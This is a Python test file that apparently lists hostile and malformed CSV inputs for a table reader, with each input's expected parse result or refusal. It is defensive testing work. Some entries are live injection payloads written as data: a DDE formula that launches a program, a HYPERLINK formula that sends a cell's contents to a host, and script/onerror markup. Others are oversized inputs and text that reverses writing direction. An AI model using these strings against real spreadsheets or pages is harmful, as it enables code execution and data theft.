"""Text tables: every encoding and delimiter, unclosed quotation marks and endless lines."""

from __future__ import annotations

from collections.abc import Sequence

from tests.support.attackers.hostile_files.kind import ATTENDED, TABLE, Kind, read, refused, text

BOOK = "March.csv"
MB = 1 << 20
HEAD, FIRST, SECOND = (text([line]) for line in TABLE)


def _lines(*more: str, encoding: str = "utf-8") -> bytes:
    """Return the valid list and more lines."""
    return (text() + "".join(line + "\n" for line in more)).encode(encoding)


def _title(title: str) -> bytes:
    """Return the valid list with another second title, unescaped."""
    return f"{HEAD}{FIRST}2026-03-14,{title},21\n".encode()


def _counts(*typed: str) -> bytes:
    """Return a list with the given attendance cells."""
    return (
        HEAD + "".join(f"2026-03-{n:02d},Story hour,{cell}\n" for n, cell in enumerate(typed, 1))
    ).encode()


def _date(typed: str) -> bytes:
    return f"{HEAD}{FIRST}{typed},Craft,21\n".encode()


def _read(
    name: str, data: bytes, attended: Sequence[float | None] = ATTENDED, issues: Sequence[str] = ()
) -> Kind:
    return read(name, BOOK, lambda: data, attended, issues)


# fmt: off
KINDS: list[Kind] = [
    _read("plain", text().encode()),
    _read("a mark of UTF-8", text().encode("utf-8-sig")),
    _read("UTF-16 with its mark", text().encode("utf-16")),
    _read("UTF-16 the other way round", b"\xfe\xff" + text().encode("utf-16-be")),
    _read("UTF-16 without a mark", text().encode("utf-16-le")),
    _read("UTF-32 with its mark", text().encode("utf-32")),
    _read("UTF-32 the other way round", b"\0\0\xfe\xff" + text().encode("utf-32-be")),
    _read("UTF-32 without a mark", text().encode("utf-32-le")),
    _read("UTF-32 the other way round without a mark", text().encode("utf-32-be")),
    _read("Western letters", _lines("2026-03-21,Niñez y año,5", encoding="cp1252"), [18, 21, 5]),
    _read("Western letters read as UTF-8 and saved again", _title("NiÃ±ez")),
    _read("one letter of another encoding", _title("Cr@ft").replace(b"@", b"\xff")),
    _read("tabs", text(delimiter="\t").encode()),
    _read("semicolons", text(delimiter=";").encode()),
    _read("semicolons and decimal commas", b"Date;Title;Attendance;Staff Hours\n2026-03-07;Story hour;18;2,5\n2026-03-14;Craft;21;1,25\n"),
    _read("bars", text(delimiter="|").encode()),
    _read("lines of Windows", text(end="\r\n").encode()),
    _read("lines of an old Mac", text(end="\r").encode()),
    _read("lines of every kind", (HEAD.rstrip() + "\r\n" + FIRST.rstrip() + "\r" + SECOND).encode()),
    _read("no line end at the end", text().rstrip().encode()),
    _read("a line that names the delimiter", b"sep=,\r\n" + text().encode()),
    _read("a line that names another delimiter", b"sep=;\n" + text(delimiter=";").encode()),
    _read("a line that names a quotation mark as delimiter", b'sep="\n' + text().encode()),
    _read("a line that names a letter as delimiter", b"sep=a\n" + text().encode()),
    _read("a line that names a line end as delimiter", b"sep=\r\n" + text().encode()),
    _read("a title and blank lines above", b"Reading club 2026\n,,\n\n" + text().encode()),
    _read("a comma behind every line", text().replace("\n", ",\n").encode()),
    _read("five hundred commas behind every line", text().replace("\n", "," * 500 + "\n").encode()),
    _read("uneven rows", _lines("2026-03-21,Club", "2026-03-28,Club,7,x,y"), [18, 21, None], ["ragged-row"]),
    _read("blank lines between", text().replace("\n", "\n\n,,\n").encode()),
    _read("a hundred thousand blank lines below", text().encode() + b"\n" * 100_000),
    _read("a hundred thousand lines of commas below", text().encode() + b",,\n" * 100_000),
    _read("headings again in the middle", _lines(HEAD.strip(), "2026-03-21,Club,7"), [18, 21, 7]),
    _read("quotation marks around everything", b'"Date","Title","Attendance"\n"2026-03-07","Story hour","18"\n"2026-03-14","Craft","21"\n'),
    _read("a comma and a line within quotation marks", _title('"Craft, glue\nand paint"')),
    _read("quotation marks within quotation marks", _title('"the ""big"" craft"')),
    _read("a quotation mark in the middle", _title('12" ruler')),
    _read("a formula that starts a program", _title("=cmd|'/C calc'!A0")),
    _read("a formula that sends a cell away", _title('"=HYPERLINK(""http://127.0.0.1/?x=""&A1,""x"")"')),
    _read("a formula behind a tab", _title("\t=1+1")),
    _read("markup in a title", _title("<script>alert(1)</script><img src=x onerror=x>")),
    _read("letters that turn the writing round", _title("\u202etfarC")),
    _read("a letter of many marks", _title("Z" + "\u0301" * 5000 + "algo")),
    _read("pictures for letters", _title("📚👩‍👧‍👦🏴‍☠️")),
    _read("the mark of the end of a file", text().encode() + b"\x1a"),
    _read("numbers of every hand", _counts("18", "18.0", "+18", " 18 ", "1 234", "١٨", "１８"), [18, 18, 18, 18, 1234, 18, 18]),
    _read("no numbers", _counts("18", "1e999", "-1e999", "NaN", "inf", "0x12", "1_8", "½"), [18, None, None, None, None, 0, None, None]),
    _read("a number of five thousand digits", _counts("18", "9" * 5000), [18, None]),
    _read("a number of a million digits", _counts("18", "1" * (MB - 40)), [18, None]),
    _read("a person less than none", _counts("18", "-3", "1e308"), [18, None, None]),
    _read("a day in the year 0", _date("0000-00-00"), issues=["date-unreadable"]),
    _read("a day in the year 99999", _date("99999-12-31"), issues=["date-unreadable"]),
    _read("a day of five thousand digits", _date("9" * 5000), issues=["date-unreadable"]),
    _read("a heading twice", b"Date,Title,Attendance,Attendance\n2026-03-07,Story hour,18,\n2026-03-14,Craft,21,\n"),
    _read("a heading of a hundred thousand letters", (text().replace("Title", "Title " + "x" * 100_000)).encode(), issues=["text-shortened"]),
    refused("a zero between", BOOK, lambda: _title("Cr\0aft"), "not text"),
    refused("zeros behind", BOOK, lambda: text().encode() + bytes(5000), "not text"),
    refused("a quotation mark never closed", BOOK, lambda: _title('"Craft'), "quotation mark"),
    refused("a quotation mark never closed, and a million lines", BOOK, lambda: (HEAD + '2026-03-07,"Story,18\n' + SECOND * 100_000).encode(), "quotation mark"),
    refused("2,001 columns", BOOK, lambda: (HEAD.strip() + "," + ",".join(f"c{n}" for n in range(1_998)) + "\n" + FIRST).encode(), "2,000"),
    refused("fifty million letters in a cell", BOOK, lambda: _title("x" * 50 * MB), "letters"),
    refused("fifty million letters in one line", BOOK, lambda: b"x" * 50 * MB, "letters"),
    refused("25 million cells in one line", BOOK, lambda: b"1," * 25 * MB, "one line or cell"),
    refused("25 million commas in one line", BOOK, lambda: b"," * 25 * MB, "one line or cell"),
    refused("two million cells in one line", BOOK, lambda: b"1," * 2 * MB, "columns"),
    refused("25 million blank lines", BOOK, lambda: b"x\n" + b"\n" * 25 * MB, "1,048,576 lines"),
    refused("99 million spaces", BOOK, lambda: b"x" + b" " * 99 * MB, "one line or cell"),
    refused("a hundred and one million letters", BOOK, lambda: b"a,b\n" * 26 * MB, "100 MB"),
    refused("UTF-32 that stops within a letter", BOOK, lambda: text().encode("utf-32-le")[:-1], "not text"),
    refused("the letters of a mainframe", BOOK, lambda: text().encode("cp500"), "not text"),
    refused("a list without a table", BOOK, lambda: b"hello\nworld\n", "No table was found"),
]
